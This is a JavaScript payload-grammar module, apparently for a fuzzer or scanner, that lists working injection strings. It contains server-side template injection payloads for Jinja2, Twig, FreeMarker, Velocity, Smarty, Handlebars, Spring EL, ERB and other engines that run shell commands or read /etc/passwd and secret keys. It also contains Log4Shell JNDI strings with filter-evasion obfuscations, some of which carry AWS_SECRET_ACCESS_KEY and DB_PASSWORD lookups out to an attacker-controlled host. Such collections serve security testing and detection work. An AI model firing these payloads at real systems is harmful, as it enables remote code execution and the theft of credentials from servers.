/** Templates that compute, and look-ups of log4j. */

import { lines } from './grammar.mjs'
import { nestedLookup } from './lookups.mjs'

export const TEMPLATE = {
  ssti: lines`
    {{§expr§}}
    {{§expr§}}
    {{ §expr§ }}
    {{§expr§}}§rnd§
    \${§expr§}
    \${§jexpr§}
    #{§expr§}
    #{§jexpr§}
    *{§jexpr§}
    <%= §rexpr§ %>
    <%= §rexpr§ %>
    <% §rexpr§ %>
    {%§stmt§%}
    {% §stmt§ %}
    {% for x in §pyobj§ %}{% if "§rnd§" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen("id").read()}}{%endif%}{%endfor%}
    {% set x = §expr§ %}{{x}}
    @(§num§*§num§)
    @{§jexpr§}
    [[\${§jexpr§}]]
    __\${§jexpr§}__::.x
    #set($x=§num§*§num§)$x
    #set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")
    <#assign ex="freemarker.template.utility.Execute"?new()> \${ex("id")}
    \${"freemarker.template.utility.Execute"?new()("§shell2§")}
    {php}echo \`id\`;{/php}
    {system('§shell2§')}
    {$smarty.version}
    {Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"x",self::clearConfig())}
    {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("§shell2§")}}
    {{['§shell2§']|filter('system')}}
    {{['§shell2§']|map('passthru')}}
    {{['§shell2§','']|sort('system')}}
    {{#with "s" as |string|}}{{#with "e"}}{{lookup string.sub "constructor"}}{{/with}}{{/with}}
    {{this.push "return require('child_process').exec('§shell2§');"}}
    - var x = root.process.mainModule.require
    #{root.process.mainModule.require('child_process').spawnSync('§shell2§').stdout}
    = global.process.mainModule.require('child_process').execSync('§shell2§')
    \${{§num§*§num§}}
    {{§num§*'§num§'}}
    {{=§num§*§num§}}
    {§num§*§num§}
    ~[§num§*§num§]
    %{§num§*§num§}
    {{dump(app)}}
    {{app.request.server.all|join(',')}}
    {% import os %}{{os.system('§shell2§')}}
    {{ '§shell2§' | e:system }}
    {{range.constructor("return process")()}}
    \${self.module.cache.util.os.system("§shell2§")}
    <%\nimport os\nx=os.popen('§shell2§').read()\n%>\${x}
    {{printf "%s" "ssti"}}
    {{.System "§shell2§"}}
    {{html "ssti"}}
    {% debug %}
    {{settings.SECRET_KEY}}
    {% include '/etc/passwd' %}
    {{include('/etc/passwd')}}
    \${T(java.lang.Runtime).getRuntime().exec('§shell2§')}
    {{'a'.toUpperCase()}}
    {{"".getClass()}}
    $class.inspect("java.lang.Runtime").type.getRuntime().exec("id")
    $eval('§num§*§num§')
    \${__import__('os').popen('§shell2§').read()}
    #{ \`§shell2§\` }
    <%= File.open('/etc/passwd').read %>
    {{ get_user_file("/etc/passwd") }}
  `,
  expr: [
    '§n§*§n§',
    '7*7',
    "7*'7'",
    '§num§*§num§',
    '§num§+§num§',
    '§nn§-§n§',
    'config',
    'config.items()',
    'self',
    'request',
    'request.application.__globals__',
    "config.__class__.__init__.__globals__['os'].popen('§shell2§').read()",
    '§pyobj§',
    '§pyobj§[§nn§]',
    "§pyobj§[§nn§]('§shell2§',shell=True,stdout=-1).communicate()",
    'lipsum.__globals__',
    "lipsum.__globals__['os'].popen('§shell2§').read()",
    'cycler.__init__.__globals__.os',
    "cycler.__init__.__globals__.os.popen('§shell2§').read()",
    'joiner.__init__.__globals__',
    'get_flashed_messages.__globals__',
    "url_for.__globals__['current_app'].config",
    "self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()",
    "request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')",
    "request['application']['__globals__']",
    "''.constructor.constructor('return process')()",
    'self._TemplateReference__context',
    'settings.SECRET_KEY',
    'app.request',
    '_self',
    '_context|json_encode',
    "'/etc/passwd'|file_excerpt(1,30)",
    "constructor.constructor('alert(1)')()",
    "[].pop.constructor('§rnd§')()",
    'session',
    'namespace.__init__.__globals__',
    "''|attr('__class__')",
    'handler.settings',
    'g.pop.__globals__',
    "()|attr('__class__')|attr('__base__')",
  ],
  pyobj: [
    "''.__class__.__mro__[2].__subclasses__()",
    "''.__class__.__mro__[1].__subclasses__()",
    '[].__class__.__base__.__subclasses__()',
    '().__class__.__bases__[0].__subclasses__()',
    '{}.__class__.__base__.__subclasses__()',
    "''.__class__",
    'request.__class__',
    "''.__class__.mro()",
    'config.__class__',
    'self.__class__.__mro__',
    '"".__class__.__bases__',
  ],
  jexpr: [
    '§num§*§num§',
    '7*7',
    'T(java.lang.Runtime).getRuntime().exec("§shell2§")',
    'T(java.lang.System).getenv()',
    'T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec("id").getInputStream())',
    '"".getClass().forName("java.lang.Runtime")',
    "''.class.forName('java.lang.Runtime')",
    'new java.util.Scanner(new java.io.File("/etc/passwd"))',
    '@java.lang.Runtime@getRuntime().exec("id")',
    'session.setAttribute("x",1)',
    'applicationScope',
    'facesContext.getExternalContext()',
    'class.getResource("").getPath()',
    'product.getClass().getProtectionDomain()',
    'request.getClass().getClassLoader()',
    'pageContext.request',
    '"z".concat("x")',
    '#rt.exec("id")',
    '@environment.getProperty("x")',
  ],
  rexpr: [
    '§num§*§num§',
    '7*7',
    "system('§shell2§')",
    '`§shell2§`',
    "File.open('/etc/passwd').read",
    "Dir.entries('/')",
    "global.process.mainModule.require('child_process').execSync('§shell2§')",
    'self.class',
    "IO.popen('§shell2§').readlines()",
    "require 'open3'",
    'foobar',
    'self.instance_variables',
    'Runtime.getRuntime().exec("§shell2§")',
    'out.print(§num§)',
    'process.env.SECRET',
    'self.method(:puts)',
  ],
  stmt: [
    'debug',
    'import os',
    "include '/etc/passwd'",
    'set x=§num§*§num§',
    'if §pyobj§',
    'for c in [1,2,3]',
    "extends '/etc/passwd'",
    'load_modules',
    'raw §rnd§',
    'print(§expr§)',
    'for x in ().__class__.__base__.__subclasses__()',
    "with a='config'",
    'csrf_token',
    'block x',
  ],

  nested: nestedLookup,
  log4shell: lines`
    §nested§
    §nested§
    §nested§
    §nested§
    §nested§
    §nested§
    §nested§
    §val§§nested§
    Mozilla/5.0 §nested§
    \${jndi:§jp§://§host§/§rnd§}
    \${jndi:§jp§://§host§:§num§/§rnd§}
    \${jndi:§jp§://§host§:1389/Basic/Command/Base64/§b64§}
    \${jndi:§jp§://\${§look§}.§host§/§rnd§}
    \${jndi:§jp§://§host§/\${§look§}}
    \${§spell§:§jp§://§host§/§rnd§}
    \${§spell§:§jp§://§host§/§rnd§}
    \${§spell§:§jp2§://§host§/§rnd§}
    \${jndi:§jp2§://§host§/§rnd§}
    \${jndi:\${lower:§jp§}://§host§/§rnd§}
    \${jndi:§jp§://127.0.0.1#§host§/§rnd§}
    \${\${§look§:-j}ndi\${env:X:-:}§jp§://§host§/§rnd§}
    Mozilla/5.0 (X11; Linux) \${jndi:§jp§://§host§/§rnd§}
    §val§\${jndi:§jp§://§host§/§rnd§}
    \${jndi:§jp§:§host§/§rnd§}
    \${jndi:dns://§host§/§rnd§}
    \${§spell§:dns://\${hostName}.§host§}
    \${jnd\${upper:ı}:§jp§://§host§/§rnd§}
    $\{jndi:§jp§://§host§/§rnd§}
    \${env:§ev§}
    \${sys:java.version}
    \${java:os}
    \${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
    \${url:UTF-8:http://§host§/}
    \${dns:address|§host§}
    \${\${::-§jn§}}
    \${jndi:§jp§://§host§/§rnd§
    %24%7Bjndi:§jp§://§host§/§rnd§%7D
    \${base64:§b64§}
    \${ctx:loginId}\${jndi:§jp§://§host§/a}
  `.map((line) => line.replace('$\\{', '${')),
  jn: ['jndi:ldap://§host§/x', 'j}${::-n}${::-d}${::-i'],
  jp: ['ldap', 'ldap', 'ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba', 'nis', 'nds', 'http'],
  jp2: [
    '${lower:l}${lower:d}a${lower:p}',
    '${::-l}${::-d}${::-a}${::-p}',
    'l${env:X:-d}ap',
    '${lower:r}mi',
    '${::-r}${::-m}${::-i}',
    'ld${upper:a}p',
    '${env:NaN:-l}dap${env:NaN:-:}',
    'l${lower:D}ap',
    'r${lower:m}i',
    '${sd:k5:-l}dap',
  ],
  spell: [
    '${::-j}${::-n}${::-d}${::-i}',
    '${lower:j}ndi',
    '${lower:j}${lower:n}${lower:d}i',
    'j${::-n}di',
    '${lower:j}${upper:n}${lower:d}${upper:i}',
    '${env:BARFOO:-j}ndi',
    'j${env:X:-n}d${env:Y:-i}',
    '${lower:jn}di',
    'jn${lower:d}i',
    'j${k8s:k5:-ND}i',
    '${${lower:j}ndi}',
    'jnd${lower:i}',
    '${upper:jndi}',
    '${env:ENV_NAME:-j}ndi',
    '${date:j}ndi',
    '${lower:${lower:jndi}}',
    'j${main:\\k5:-Nd}i',
    '${sys:x:-j}ndi',
    'j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di',
    'jndi',
  ],
  look: [
    'env:AWS_SECRET_ACCESS_KEY',
    'hostName',
    'sys:user.name',
    'env:USER',
    'java:version',
    'sys:java.version',
    'env:HOSTNAME',
    'ctx:x',
    'env:PATH',
    'main:0',
    'date:yyyy',
    'web:rootDir',
    'docker:containerId',
    'k8s:accountName',
    'spring:x',
  ],
  ev: ['AWS_SECRET_ACCESS_KEY', 'PATH', 'DB_PASSWORD', 'HOME', 'JAVA_HOME'],
}
